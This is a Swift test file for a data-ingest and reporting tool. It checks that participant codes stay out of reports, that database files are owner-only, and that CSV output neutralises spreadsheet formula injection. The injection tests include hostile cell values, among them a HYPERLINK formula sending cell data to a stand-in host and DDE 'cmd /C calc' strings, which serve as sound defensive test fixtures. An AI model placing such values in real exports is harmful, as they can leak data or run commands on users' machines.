import Evaluation
import Foundation
import Testing

@testable import Ingest

@Suite("Privacy")
struct PrivacyTests {
    /// `datasets/demo` of this checkout.
    static func demoFolder() throws -> URL {
        var url = URL(fileURLWithPath: #filePath)
        for _ in 0..<4 { url.deleteLastPathComponent() }  // Safety, EvaluationTests, Tests, the checkout
        let demo = url.appendingPathComponent("datasets/demo")
        try #require(FileManager.default.fileExists(atPath: demo.appendingPathComponent("participants.csv").path))
        return demo
    }

    /// Every known export of a folder, as `evalrun import DIR` lists them.
    static func requests(in folder: URL) throws -> [ImportRequest] {
        try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted().compactMap { name in
            FileKind(fileName: name).map { ImportRequest(kind: $0, path: folder.appendingPathComponent(name).path) }
        }
    }

    /// The participant codes of the demo's participants file (first column).
    static func demoParticipantCodes() throws -> [String] {
        let text = try String(contentsOf: try demoFolder().appendingPathComponent("participants.csv"), encoding: .utf8)
        let lines = text.split(whereSeparator: \.isNewline).dropFirst()
        let separator: Character = text.split(whereSeparator: \.isNewline).first?.contains(";") == true ? ";" : ","
        return lines.compactMap { $0.split(separator: separator, omittingEmptySubsequences: false).first.map(String.init) }
    }

    @Test("no participant identifier appears in any output of the demo report (every language, --by, excel-it)")
    func noIdentifierInOutputs() throws {
        let codes = try Self.demoParticipantCodes()
        #expect(codes.count > 100 && codes.allSatisfy { $0.hasPrefix("P") })
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("evalrun-privacy-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let store = try EvaluationStore.open(path: folder.appendingPathComponent("demo.sqlite").path)
        _ = try store.importFiles(try Self.requests(in: try Self.demoFolder()), configuration: ProjectConfiguration())
        let snapshot = try store.snapshot()
        #expect(snapshot.participants.count == codes.count)

        let reports: [FunderReport] = [
            FunderReport(period: try #require(Period(parsing: "2016")), configuration: ProjectConfiguration()),
            FunderReport(
                period: try #require(Period(parsing: "2015Q3")), configuration: ProjectConfiguration(), language: .it,
                csvFormat: .excelItalian),
            FunderReport(period: try #require(Period(parsing: "2016")), configuration: ProjectConfiguration(), by: "composition"),
        ]
        var files = 0
        for (index, report) in reports.enumerated() {
            let out = folder.appendingPathComponent("report-\(index)")
            try report.write(from: snapshot, to: try OutputFolder(out.path, command: "report"))
            let enumerator = FileManager.default.enumerator(at: out, includingPropertiesForKeys: nil)
            while let url = enumerator?.nextObject() as? URL {
                var isDirectory: ObjCBool = false
                guard FileManager.default.fileExists(atPath: url.path, isDirectory: &isDirectory), !isDirectory.boolValue else { continue }
                files += 1
                let data = try Data(contentsOf: url)
                let text = try OutputText.of(url.lastPathComponent, data)
                for code in codes where text.contains(code) {
                    Issue.record("\(url.lastPathComponent) contains participant identifier \(code)")
                }
            }
        }
        #expect(files >= 3 * 3)
    }

    @Test("the database file, and SQLite's files beside it, are created readable by the owner only")
    func ownerOnlyDatabase() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("evalrun-perms-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("evaluation.sqlite").path
        let store = try EvaluationStore.open(path: path)
        let groups = folder.appendingPathComponent("groups.csv")
        try Data("group_id\nG1\n".utf8).write(to: groups)
        _ = try store.importFile(ImportRequest(kind: .groups, path: groups.path), configuration: ProjectConfiguration())
        for suffix in ["", "-wal", "-shm"] {
            let file = path + suffix
            guard FileManager.default.fileExists(atPath: file) else {
                #expect(suffix != "", "the database is missing")
                continue
            }
            let permissions = try FileManager.default.attributesOfItem(atPath: file)[.posixPermissions] as? Int
            #expect(permissions.map { $0 & 0o077 } == 0, "\(file) is \(String(permissions ?? 0, radix: 8))")
        }
    }
}

@Suite("Formula injection")
struct FormulaInjectionTests {
    static let hostileSites = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR",
    ]

    @Test(
        "a hostile site name from groups.csv reaches tables/*.csv neutralised, in both CSV dialects",
        arguments: [CSVFormat.rfc4180, .excelItalian])
    func hostileSiteInTables(format: CSVFormat) throws {
        let f = try ImportFixture()
        var groups = "group_id,site\n"
        var participants = "participant_id,group_id,enrolled_on\n"
        var sessions = "group_id,session_no,date\n"
        for (g, site) in Self.hostileSites.enumerated() {
            groups += "G\(g),\"\(site.replacingOccurrences(of: "\"", with: "\"\""))\"\n"
            for p in 0..<6 { participants += "P\(g)-\(p),G\(g),2016-01-10\n" }
            sessions += "G\(g),1,2016-01-15\n"
        }
        _ = try f.importFile(.groups, try f.write("groups.csv", groups))
        _ = try f.importFile(.participants, try f.write("participants.csv", participants))
        _ = try f.importFile(.sessions, try f.write("sessions.csv", sessions))
        let sites = try f.store.snapshot().groups.compactMap(\.site)
        #expect(Set(sites) == Set(Self.hostileSites.map(FieldText.trim)))

        let out = f.folder.appendingPathComponent("report")
        let report = FunderReport(
            period: try #require(Period(parsing: "2016")), configuration: ProjectConfiguration(), csvFormat: format, by: "site")
        try report.write(from: try f.store.snapshot(), to: try OutputFolder(out.path, command: "report"))
        let tables = try FileManager.default.contentsOfDirectory(atPath: out.appendingPathComponent("tables").path)
        var cellsWithSites = 0
        for table in tables {
            let data = try Data(contentsOf: out.appendingPathComponent("tables").appendingPathComponent(table))
            let text = String(decoding: data, as: UTF8.self)
            for cell in Self.cells(text, separator: format.separator) {
                if let first = cell.unicodeScalars.first {
                    #expect(!["=", "+", "@", "\t", "\r"].contains(first), "\(table): a cell starts with a formula character: \(cell)")
                    if first == "-" { #expect(Double(cell.replacingOccurrences(of: ",", with: ".")) != nil, "\(table): \(cell)") }
                }
                if Self.hostileSites.contains(where: { cell.contains(FieldText.trim($0)) }) { cellsWithSites += 1 }
            }
        }
        #expect(cellsWithSites >= Self.hostileSites.count, "the sites were expected in the --by site tables")
    }

    @Test("CSVWriter neutralises =, +, -, @, tab and CR at the start of text cells, and only there")
    func writer() throws {
        let writer = CSVWriter(format: .rfc4180)
        #expect(
            writer.line([.text("=1+1"), .text("+1"), .text("-1"), .text("@A1"), .text("\tx"), .text("\rx")])
                == "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\"\r\n")
        #expect(writer.line([.text("a=b"), .integer(-3), .number(-1.5, digits: 2), .text("Forlì")]) == "a=b,-3,-1.5,Forlì\r\n")
    }

    /// The cells of a CSV text (quotes removed), for checking.
    static func cells(_ text: String, separator: Character) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var iterator = text.drop(while: { $0 == "\u{FEFF}" }).makeIterator()
        var pending: Character? = nil
        while let c = pending ?? iterator.next() {
            pending = nil
            if quoted {
                if c == "\"" {
                    if let next = iterator.next() {
                        if next == "\"" { cell.append("\"") } else { quoted = false; pending = next }
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" && cell.isEmpty {
                quoted = true
            } else if c == separator || c == "\n" || c == "\r\n" {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
        }
        if !cell.isEmpty { cells.append(cell) }
        return cells
    }
}
